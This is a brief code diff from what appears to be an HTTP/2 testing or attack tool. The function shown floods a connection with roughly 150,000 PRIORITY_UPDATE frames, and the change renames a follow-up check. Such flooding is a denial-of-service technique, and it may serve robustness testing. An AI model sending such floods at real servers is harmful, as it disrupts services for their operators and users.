@@ -217,7 +217,7 @@ def priority_updates(attack: Any) -> None:
     conn = Http2(attack)
     updates = (frame(0x10, 0, 0, struct.pack(">I", n) + b"u=%d, i" % (n % 8)) for n in range(1, 300_000, 2))
     conn.send(b"".join(updates))
-    answered(attack, conn)
+    sound(attack, conn)
 
 
 DATAS: dict[str, tuple[bytes, str, bool]] = {
